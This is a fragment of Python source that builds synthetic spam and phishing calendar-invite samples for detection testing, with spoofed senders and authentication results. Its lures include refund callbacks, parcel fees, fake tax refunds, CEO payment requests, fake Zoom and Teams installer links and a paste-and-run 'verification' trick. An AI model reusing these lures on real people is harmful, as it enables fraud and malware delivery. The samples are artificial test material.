    L.append(S("callback", plat="spamkit", client="ical_net", tz="Europe/London", structure="mixed_text_att", bstyle="dotnet",
               **{"from": ("McAfee Renewals", "renewals@mcafe-protect.example")},
               auth={"dkim": "pass", "dkim_d": "mcafe-protect.example", "spf": "pass", "dmarc": "pass", "policy": "NONE"},
               summary="Subscription renewed - Order 773-19022",
               body="Your McAfee Total Protection (5 devices) has been renewed.\nAmount: £299.99\nIf this was not authorised please call 020 7946 0558 to request a refund.",
               desc="Call 020 7946 0558 for refund", when=(0, 12, 0), dur=30))
    L.append(S("callback", plat="google", client="google", tz="Europe/Paris",
               **{"from": ("Service Client", "servicefacturation.fr22@gmail.com")},
               summary="Confirmation de paiement 389,99 €", desc="Bonjour,\n\nVotre abonnement annuel a été renouvelé : 389,99 €.\nPour toute réclamation ou annulation, contactez le +33 1 99 00 12 34.\n\nMerci.", when=(0, 0, 0), dur=30))
    L.append(S("callback", plat="icsonly", client="phpkit", tz="UTC",
               **{"from": ("Microsoft Billing", "billing@microsoft-support-365.example")},
               auth={"dkim": "fail", "dkim_d": "microsoft-support-365.example", "spf": "fail", "dmarc": "fail", "policy": "NONE"},
               summary="Microsoft 365: charge of $299.00 confirmed", desc="Call +1 555 0199 to dispute.", when=(1096, 9, 0), dur=15))
    L.append(S("callback", plat="outlookcom", client="outlookcom", tz="America/New_York",
               **{"from": ("PayPal Billing", "paypal.billing.teamus@outlook.com")},
               auth={"dkim": "pass", "dkim_d": "outlook.com", "spf": "pass", "dmarc": "pass", "policy": "NONE", "mailfrom": "outlook.com"},
               summary="PayPal: Transaction ID 7HF22391KJ on hold",
               desc="We have placed a hold on a payment of $648.23 to Coinbase. If you did not request this, call PayPal Resolution Center +1 (555) 015-0123 immediately.", when=(0, 0, 0), dur=15))

    # ------------------------------------------------------------ prize
    L.append(S("prize", plat="google", client="google", tz="Europe/Madrid",
               **{"from": ("Mercadona Clientes", "encuesta.clientes.es@gmail.com")},
               summary="🎁 Has sido seleccionado para una tarjeta regalo de 500€",
               desc="Responde a nuestra breve encuesta (30 segundos) y recibe tu tarjeta regalo de 500€.\n\nhttps://forms.gle/Q8mErcPremio500\n\nOferta válida sólo hoy.", when=(0, 23, 0), dur=60))
    L.append(S("prize", plat="spamkit", client="generic", tz="UTC", structure="mixed_html_att", bstyle="java",
               **{"from": ("Costco Rewards", "rewards@cstco-member.example")},
               auth={"dkim": "pass", "dkim_d": "mailchimpapp.net", "spf": "pass", "mailfrom": "mail89.suw11.mcdlv.net", "dmarc": "fail", "policy": "NONE"},
               summary="Congratulations! Your loyalty reward is waiting",
               body="You've been selected to receive a Dyson V15. Just pay $2.95 shipping.\nClaim now: https://cstco-member.example/claim?id=88121\nOffer expires tonight.",
               desc="Claim: https://cstco-member.example/claim?id=88121", when=(0, 0, 0), dur=30, arrival=(2022, 6, 9, 2, 13)))
    L.append(S("prize", plat="icsonly", client="ics_js", tz="Europe/Rome",
               **{"from": ("Vincitore", "premi@lotteria-italia-vincite.example")},
               auth={"dkim": "none", "spf": "pass", "dmarc": "none"},
               summary="Hai vinto un iPhone 15 Pro!", desc="Sei il visitatore fortunato di oggi. Ritira il tuo premio: https://lotteria-italia-vincite.example/premio", when=(0, 0, 0), dur=20))
    L.append(S("prize", plat="google", client="google", tz="America/Sao_Paulo",
               **{"from": ("Promoção Oficial", "promocao.premiada.br@gmail.com")},
               summary="Você ganhou R$ 5.000 no sorteio", desc="Parabéns! Seu e-mail foi sorteado. Para resgatar, acesse https://resgate-premio.vercel.app e informe seu CPF.", when=(0, 0, 0), dur=30))

    # ------------------------------------------------------------ crypto
    L.append(S("crypto", plat="google", client="google", tz="UTC",
               **{"from": ("BTC Reward Desk", "btc.rewards.desk91@gmail.com")},
               summary="You have 0.7853 BTC pending withdrawal", desc="Your account has accumulated 0.7853 BTC from the cloud mining program. Complete withdrawal: https://t.me/btc_withdraw_desk_bot?start=cal", when=(0, 0, 0), dur=15))
    L.append(S("crypto", plat="spamkit", client="generic", tz="Asia/Tokyo", structure="alt_cal", charset="shift_jis", cte="base64",
               **{"from": ("投資サポート", "support@ai-toushi-club.example")},
               auth={"dkim": "pass", "dkim_d": "ai-toushi-club.example", "spf": "pass", "dmarc": "none"},
               summary="【限定】AI自動売買で月利30%", body="AIによる仮想通貨自動売買で、毎月30%の利益を実現。\n今なら無料で参加できます。LINE登録はこちら：https://lin.ee/aiToushi77",
               desc="LINE登録：https://lin.ee/aiToushi77", when=(0, 20, 0), dur=60))
    L.append(S("crypto", plat="spamkit", client="eluceo", tz="Europe/Berlin", structure="mixed_alt_att", bstyle="php",
               **{"from": ("Bitpanda Support", "kyc@bitpanda-verifizierung.example")},
               auth={"dkim": "pass", "dkim_d": "bitpanda-verifizierung.example", "spf": "pass", "dmarc": "pass", "policy": "NONE"},
               summary="Verifizierung erforderlich – Ihr Konto wird eingeschränkt",
               body="Guten Tag,\n\naufgrund neuer EU-Vorgaben (MiCA) müssen alle Kunden ihre Identität bis morgen erneut bestätigen. Andernfalls wird Ihr Konto eingeschränkt.\n\nJetzt verifizieren: https://bitpanda-verifizierung.example/kyc\n\nIhr Bitpanda Team",
               desc="Jetzt verifizieren: https://bitpanda-verifizierung.example/kyc", when=(1, 0, 0), dur=15))
    L.append(S("crypto", plat="google", client="google", tz="Europe/Istanbul",
               **{"from": ("Kripto Kazanç", "kripto.kazanc.tr@gmail.com")},
               summary="Hesabınıza 12.500 USDT yatırıldı", desc="Tebrikler! Hesabınıza 12.500 USDT bonus tanımlandı. Çekim için: https://usdt-tr-bonus.web.app", when=(0, 0, 0), dur=30))

    # ------------------------------------------------------------ parcel
    L.append(S("parcel", plat="spamkit", client="ics_js", tz="Europe/London", structure="mixed_html_att",
               **{"from": ("Royal Mail", "noreply@royalmail-redelivery.example")},
               auth={"dkim": "pass", "dkim_d": "royalmail-redelivery.example", "spf": "pass", "dmarc": "pass", "policy": "NONE"},
               summary="Redelivery: your parcel is awaiting a £1.45 fee",
               body="We tried to deliver your parcel today but a £1.45 settling fee is outstanding.\nReschedule: https://royalmail-redelivery.example/track/RM771029GB",
               desc="Reschedule: https://royalmail-redelivery.example/track/RM771029GB", when=(1, 8, 0), dur=240))
    L.append(S("parcel", plat="google", client="google", tz="Europe/Berlin", gprefix="Einladung",
               **{"from": ("DHL Paket", "dhl.zustellung.info@gmail.com")},
               summary="Ihre Sendung konnte nicht zugestellt werden", desc="Zollgebühr offen: 2,99 €. Neue Zustellung planen: https://dhl-de-paket.glitch.me/?id=00340434161094042557", when=(1, 9, 0), dur=180))
    L.append(S("parcel", plat="icsonly", client="phpkit", tz="Europe/Warsaw", ics_cte="base64",
               **{"from": ("InPost", "powiadomienia@inpost-dostawa.example")},
               auth={"dkim": "none", "spf": "pass", "dmarc": "none"},
               summary="Paczka czeka na dopłatę 1,99 zł", desc="Twoja paczka nie może zostać dostarczona. Dopłać 1,99 zł: https://inpost-dostawa.example/paczka/6200841", when=(0, 18, 0), dur=60))
    L.append(S("parcel", plat="spamkit", client="generic", tz="America/New_York", structure="alt_cal", bstyle="java",
               **{"from": ("USPS", "tracking@usps-delivery-notice.example")},
               auth={"dkim": "pass", "dkim_d": "usps-delivery-notice.example", "spf": "pass", "dmarc": "pass", "policy": "NONE"},
               summary="USPS: Delivery attempt failed - update address",
               body="Your package US9514901185421 could not be delivered due to an incomplete address. Update within 12 hours: https://usps.com-trackupdate.example/",
               desc="https://usps.com-trackupdate.example/", when=(0, 0, 0), dur=60))

    # ------------------------------------------------------------ tax_refund
    L.append(S("tax_refund", plat="spamkit", client="ics_js", tz="Europe/London", structure="mixed_alt_att",
               **{"from": ("HMRC", "refunds@hmrc-gov-uk.example")},
               auth={"dkim": "pass", "dkim_d": "hmrc-gov-uk.example", "spf": "pass", "dmarc": "pass", "policy": "NONE"},
               summary="HMRC: You are due a tax refund of £428.60",
               body="After the last annual calculation of your fiscal activity we have determined that you are eligible to receive a tax refund of £428.60.\nSubmit your claim: https://hmrc-gov-uk.example/refund\nHM Revenue & Customs",
               desc="Claim: https://hmrc-gov-uk.example/refund", when=(2, 9, 0), dur=30))
    L.append(S("tax_refund", plat="google", client="google", tz="Europe/Paris",
               **{"from": ("impots.gouv", "dgfip.remboursement.fr@gmail.com")},
               summary="Remboursement d'impôt : 312,00 €", desc="Vous avez droit à un remboursement de 312,00 €. Complétez le formulaire : https://impots-remboursement.webflow.io", when=(1, 10, 0), dur=30))
    L.append(S("tax_refund", plat="spamkit", client="generic", tz="Europe/Madrid", structure="mixed_html_att", charset="iso-8859-1", cte="quoted-printable", bstyle="php",
               **{"from": ("Agencia Tributaria", "notificaciones@agenciatributaria-devolucion.example")},
               auth={"dkim": "none", "spf": "pass", "dmarc": "none"},
               summary="Devolución de IRPF pendiente",
               body="Estimado contribuyente:\n\nTiene una devolución pendiente de 642,18 €. Para recibirla debe confirmar sus datos bancarios en el plazo de 48 horas.\n\nAcceder: https://agenciatributaria-devolucion.example/sede\n\nAgencia Tributaria",
               desc="Acceder: https://agenciatributaria-devolucion.example/sede", when=(1, 10, 0), dur=30))
    L.append(S("tax_refund", plat="icsonly", client="ics_js", tz="Asia/Kolkata",
               **{"from": ("Income Tax Department", "refund@incometax-efiling.example")},
               auth={"dkim": "pass", "dkim_d": "incometax-efiling.example", "spf": "pass", "dmarc": "none"},
               summary="Income Tax Refund Rs 15,490 approved", desc="Your refund of Rs 15,490 has been approved. Verify account details: https://incometax-efiling.example/refund/verify", when=(0, 0, 0), dur=30))

    # ------------------------------------------------------------ retail
    L.append(S("retail", plat="spamkit", client="eluceo", tz="America/New_York", structure="mixed_alt_att", bstyle="java",
               **{"from": ("Black Friday Deals", "deals@mega-outlet-sale.example")},
               auth={"dkim": "pass", "dkim_d": "mega-outlet-sale.example", "spf": "pass", "dmarc": "pass", "policy": "NONE"},
               summary="BLACK FRIDAY: up to 90% off Ray-Ban, Oakley, Nike",
               body="Black Friday starts NOW. Ray-Ban from $19.99, Nike Air from $39. Free shipping worldwide.\nShop: https://mega-outlet-sale.example/bf\nUnsubscribe: reply STOP",
               desc="Shop: https://mega-outlet-sale.example/bf", when=(0, 0, 0), dur=1440, arrival=(2023, 11, 23, 6, 40)))
    L.append(S("retail", plat="google", client="google", tz="Europe/Berlin",
               **{"from": ("Outlet Sale", "markenoutlet.sale2024@gmail.com")},
               summary="Nur heute: Markenschuhe -80% 👟", desc="Nike, Adidas, Skechers – Lagerräumung! Nur heute bis Mitternacht: https://markenoutlet-de.shop", when=(0, 0, 0), dur=60))
    L.append(S("retail", plat="icsonly", client="generic", tz="Asia/Shanghai",
               **{"from": ("", "sale@lux-bags-outlet.example")},
               auth={"dkim": "none", "spf": "neutral", "dmarc": "none"},
               summary="名牌包包一折起，限时抢购", desc="LV、Gucci、Prada 一折起，全场包邮。点击进入：https://lux-bags-outlet.example", when=(0, 0, 0), dur=60))
    L.append(S("retail", plat="spamkit", client="ics_js", tz="Europe/Amsterdam", structure="mixed_html_att",
               **{"from": ("Kruidvat Acties", "acties@kruidvat-korting.example")},
               auth={"dkim": "pass", "dkim_d": "kruidvat-korting.example", "spf": "pass", "dmarc": "none"},
               summary="Gratis Philips OneBlade voor trouwe klanten",
               body="Gefeliciteerd! U bent geselecteerd. Betaal alleen € 1,95 verzendkosten: https://kruidvat-korting.example/oneblade",
               desc="https://kruidvat-korting.example/oneblade", when=(0, 0, 0), dur=30))

    # ------------------------------------------------------------ more hard cases spread over categories
    L.append(S("compromised_share", plat="google", client="google", tz="Asia/Dubai",
               **{"from": ("Omar Al-Farsi", "omar.alfarsi@desertline-trading.example")},
               summary="مستندات العقد للمراجعة",
               desc="مرحباً،\n\nأرجو مراجعة مستندات العقد المحدثة قبل اجتماعنا:\nhttps://docs-view.sharefile-secure.example/d/ar/contract2025\n\nمع التحية،\nعمر", when=(1, 11, 0), dur=30))
    L.append(S("bec_exec", plat="o365", client="outlook", tz="Europe/Amsterdam", lang_tag="nl-NL",
               **{"from": ("Femke Bakker", "f.bakker@example.net")},
               auth={"dkim": "pass", "dkim_d": "example.net", "spf": "pass", "dmarc": "pass", "policy": "REJECT", "ip": "2001:db8:40:10::25"},
               summary="Even bellen?",
               desc="Hoi,\n\nBen je beschikbaar? Ik zit in een overleg en kan niet bellen. Ik heb je hulp nodig met een betaling aan een nieuwe leverancier, moet vandaag nog de deur uit. Laat even weten via mail.\n\nFemke\n\nVerzonden vanaf mijn iPhone", when=(0, 15, 30), dur=15))
    L.append(S("fake_client", plat="spamkit", client="ical_net", tz="America/Los_Angeles", structure="mixed_text_att", bstyle="dotnet",
               **{"from": ("Calendly", "notifications@calendly-events.example")},
               auth={"dkim": "pass", "dkim_d": "calendly-events.example", "spf": "pass", "dmarc": "pass", "policy": "NONE"},
               summary="New Event: 30 Minute Meeting with James Porter",
               body="Hi,\n\nA new event has been scheduled.\n\nEvent Type: 30 Minute Meeting\nInvitee: James Porter\nLocation: Zoom\n\nNOTE: this meeting uses Zoom 6.x. Download the updated client before joining: https://zoom.us.calendly-events.example/client/latest/ZoomInstaller.exe\n",
               desc="Download the updated client: https://zoom.us.calendly-events.example/client/latest/ZoomInstaller.exe", when=(1, 14, 0), dur=30))
    L.append(S("invoice_lure", plat="thunderbird", client="thunderbird", tz="Europe/Rome", lang_tag="it-IT",
               **{"from": ("Amministrazione Bianchi Srl", "amministrazione@bianchisrl.example")},
               auth={"dkim": "pass", "dkim_d": "bianchisrl.example", "spf": "pass", "dmarc": "pass", "policy": "QUARANTINE"},
               summary="Fattura elettronica n. 318/2024 - pagamento",
               desc="Buongiorno,\n\nin allegato la fattura n. 318/2024 di € 4.870,00. Vi segnaliamo che le nostre coordinate bancarie sono cambiate, il nuovo IBAN è indicato nel documento:\n\nhttps://bianchisrl-my.sharepoint.fattura-view.example/318-2024\n\nCordiali saluti\nUfficio amministrazione", when=(2, 10, 0), dur=30))
    L.append(S("ics_only", plat="icsonly", client="google", tz="America/New_York", prodid="-//Google Inc//Google Calendar 70.9054//EN", nofold=True,
               **{"from": ("Jake Miller", "jakemiller.hr.team@gmail.com")},
               auth={"dkim": "pass", "dkim_d": "gmail.com", "spf": "pass", "dmarc": "pass", "policy": "NONE", "mailfrom": "gmail.com", "sel": "20230601"},
               summary="Remote Job Offer - $45/hr Data Entry",
               desc="Hello, we reviewed your resume on Indeed. Position: Remote Data Entry Clerk $45/hr, flexible hours. Contact our HR manager on Telegram @jake_hr_recruit to start today.", when=(0, 12, 0), dur=30))
    L.append(S("dating", plat="spamkit", client="ics_js", tz="Europe/Warsaw", structure="alt_cal", charset="iso-8859-2", cte="quoted-printable",
               **{"from": ("Kasia", "kasia.z.krakowa@poczta-randki.example")},
               auth={"dkim": "pass", "dkim_d": "poczta-randki.example", "spf": "pass", "dmarc": "none"},
               summary="Cześć, może kawa?", body="Cześć :) widziałam Twój profil, może spotkamy się na kawę? Napisz do mnie tutaj: https://randki-blisko.example/kasia",
               desc="Napisz: https://randki-blisko.example/kasia", when=(0, 19, 0), dur=60))
    L.append(S("compromised_share", plat="thunderbird", client="thunderbird", tz="Europe/Berlin", lang_tag="de-DE",
               **{"from": ("Ingenieurbüro Haas", "info@ib-haas.example")},
               auth={"dkim": "pass", "dkim_d": "ib-haas.example", "spf": "pass", "dmarc": "pass", "policy": "NONE"},
               summary="Planunterlagen Bauabschnitt 2",
               desc="Guten Tag,\n\nanbei der Link zu den aktuellen Planunterlagen für BA2 (WeTransfer, 212 MB):\nhttps://wetransfer.com.download-files.example/downloads/ba2-plaene\n\nMit freundlichen Grüßen\nIngenieurbüro Haas", when=(3, 10, 0), dur=60))

    # ------------------------------------------------------------ additional waves
    L.append(S("retail", plat="apple", client="ios", tz="Asia/Shanghai", arrival=(2016, 11, 24, 3, 12),
               auth={"dkim": "pass", "dkim_d": "icloud.com", "spf": "pass", "dmarc": "pass", "policy": "QUARANTINE", "mailfrom": "icloud.com"},
               **{"from": ("", "qnhf2210@icloud.com")}, body="", attendees=MANY,
               summary="黑色星期五 Ray-Ban Oakley 太阳眼镜 1折 仅限今天", desc="雷朋/欧克利 全场1折 $19.99 包邮\nhttp://www.rb-outlet-sale.example", location="http://www.rb-outlet-sale.example", when=(0, 0, 0), dur=1440))
    L.append(S("prize", plat="google", client="google", tz="America/New_York", attendees=MANY[:18],
               **{"from": ("Walmart Survey", "wlmrt.survey.center2025@gmail.com")},
               summary="Action required: confirm your $750 Walmart reward",
               desc="You were picked among 20 users for our customer survey. Confirm your reward before it expires:\nhttps://storage.googleapis.com/wlmrt-reward-7741/index.html\n\nIf the link doesn't open, copy it into your browser.", when=(0, 0, 0), dur=30))
    L.append(S("fake_client", plat="o365", client="exchange16", tz="Europe/London", lang_tag="en-GB",
               **{"from": ("Olivia Bennett", "o.bennett@halewood-legal.example")},
               auth={"dkim": "pass", "dkim_d": "halewood-legal.example", "spf": "pass", "dmarc": "pass", "policy": "REJECT"},
               summary="Halewood Legal - secure document preview",
               desc="Hi,\n\nPlease review the engagement letter before our call. Our document viewer needs a one-time browser verification:\n\nhttps://halewood-legal.docs-preview.example/view/EL-2291\n\n(If you see \"Verify you are human\", follow the on-screen steps - press Windows + R, paste with Ctrl + V and press Enter.)\n\nKind regards\nOlivia Bennett\nSenior Associate", when=(1, 10, 0), dur=30))
    L.append(S("ics_only", plat="icsonly", client="outlook", prodid="Microsoft Exchange Server 2010", tz="UTC", ics_cte="base64", no_uid=True,
               **{"from": ("Microsoft 365", "no-reply@m365-passwordcenter.example")},
               auth={"dkim": "pass", "dkim_d": "m365-passwordcenter.example", "spf": "pass", "dmarc": "pass", "policy": "NONE"},
               summary="Password for your mailbox expires today",
               desc="Your password expires in 2 hours. Keep current password: https://ipfs.io/ipfs/bafybeigd2k7qexample/owa.html#", when=(0, 0, 0), dur=15))
    L.append(S("invoice_lure", plat="spamkit", client="phpkit", tz="America/Sao_Paulo", structure="mixed_html_att", charset="iso-8859-1", cte="quoted-printable", bstyle="php",
               **{"from": ("Financeiro", "financeiro@cobranca-boletos.example")},
               auth={"dkim": "none", "spf": "pass", "dmarc": "none"},
               summary="Boleto vencido - NF 00981 - R$ 1.930,00",
               body="Prezado(a),\n\nIdentificamos que o boleto referente à nota fiscal 00981 no valor de R$ 1.930,00 está vencido. Para evitar protesto, emita a segunda via:\n\nhttps://cobranca-boletos.example/2via/00981\n\nAtenciosamente,\nDepartamento Financeiro",
               desc="Segunda via: https://cobranca-boletos.example/2via/00981", when=(0, 0, 0), dur=30))
    L.append(S("bec_exec", plat="o365", client="outlook", tz="Europe/Istanbul", lang_tag="tr-TR",
               **{"from": ("Ahmet Kaya", "ahmet.kaya@example.net")},
               auth={"dkim": "pass", "dkim_d": "example.net", "spf": "pass", "dmarc": "pass", "policy": "REJECT", "ip": "2001:db8:40:10::25"},
               summary="Acil - müsait misin?",
               desc="Merhaba,\n\nŞu an müsait misin? Toplantıdayım, telefonla konuşamıyorum. Bir tedarikçiye bugün ödeme yapılması gerekiyor, detayları mail ile ileteceğim. Konuyu şimdilik kimseyle paylaşma lütfen.\n\nAhmet Kaya\nGenel Müdür", when=(0, 16, 0), dur=15))
    L.append(S("dating", plat="outlookcom", client="outlookcom", tz="Asia/Tokyo", lang_tag="ja-JP",
               **{"from": ("ゆい", "yui.chan0707@outlook.jp")},
               auth={"dkim": "pass", "dkim_d": "outlook.jp", "spf": "pass", "dmarc": "pass", "policy": "NONE", "mailfrom": "outlook.jp"},
               summary="はじめまして♪", desc="はじめまして、ゆいです。プロフィール見て気になっちゃいました。よかったらLINEで話しませんか？ ID: yui_0707x", when=(0, 22, 0), dur=60))
    L.append(S("parcel", plat="spamkit", client="generic", tz="Europe/Madrid", structure="mixed_att_only", att_ctype="application/ics", drop_end_event=True,
               **{"from": ("Correos", "avisos@correos-entregas.example")},
               auth={"dkim": "pass", "dkim_d": "correos-entregas.example", "spf": "pass", "dmarc": "none"},
               summary="Correos: envío retenido – tasas de 1,79 €", desc="Su envío está retenido en aduanas. Pague 1,79 € aquí: https://correos-entregas.example/pago", when=(1, 10, 0), dur=60, ics_name="Correos_aviso.ics"))

    # ------------------------------------------------------------ more hard spam
    L.append(S("compromised_share", plat="google", client="google", tz="America/Mexico_City", gprefix="Invitación",
               auth={"dkim": "pass", "dkim_d": "constructora-valle.example", "sel": "google", "spf": "pass", "dmarc": "pass", "policy": "NONE"},
               **{"from": ("Laura Méndez", "laura.mendez@constructora-valle.example")},
               summary="Laura Méndez te compartió \"Orden de compra 2291.pdf\"",
               desc="Hola,\n\nTe comparto la orden de compra actualizada. Ábrela desde aquí:\nhttps://express.adobe.com/page/Xq8rValle2291/\n\nSaludos,\nLaura Méndez\nCompras – Constructora del Valle", when=(0, 12, 0), dur=30))
    L.append(S("fake_client", plat="spamkit", client="ics_js", tz="America/Sao_Paulo", structure="mixed_alt_att", bstyle="php",
               **{"from": ("Microsoft Teams", "noreply@xn--microsft-teams-dob.example")},
               auth={"dkim": "pass", "dkim_d": "xn--microsft-teams-dob.example", "spf": "pass", "dmarc": "pass", "policy": "NONE"},
               summary="Reunião: Alinhamento trimestral",
               body="Você foi convidado para uma reunião no Microsoft Teams.\n\nSua versão do Teams não é mais suportada. Atualize para participar:\nhttps://xn--microsft-teams-dob.example/download/Teams_windows_x64.msi\n\nID da reunião: 318 442 109",
               desc="Atualize para participar: https://xn--microsft-teams-dob.example/download/Teams_windows_x64.msi", location="Microsoft Teams", when=(0, 15, 0), dur=60))
    L.append(S("bec_exec", plat="spamkit", client="generic", tz="Asia/Shanghai", structure="alt_cal", charset="gbk", cte="base64", auto_html=False,
               **{"from": ("王建国", "wangjg.boss@mail-free.example")},
               auth={"dkim": "pass", "dkim_d": "mail-free.example", "spf": "pass", "dmarc": "none"},
               summary="在吗？", body="在吗？我现在在开会，不方便接电话。有个紧急的事情需要你处理一下，看到请回复邮件。\n\n王建国", desc="在吗？看到请回复邮件。", when=(0, 11, 0), dur=15))
    L.append(S("ics_only", plat="icsonly", client="ics_js", tz="Asia/Shanghai", ics_cte="base64",
               **{"from": ("", "hk-lottery@prize-hk.example")},
               auth={"dkim": "none", "spf": "neutral", "dmarc": "none"},
               summary="恭喜您获得iPhone 16一部", desc="请点击领取：https://t.cn/prize8821 或加微信 hk_prize_88", when=(-412, 0, 0), dur=30))
    return L
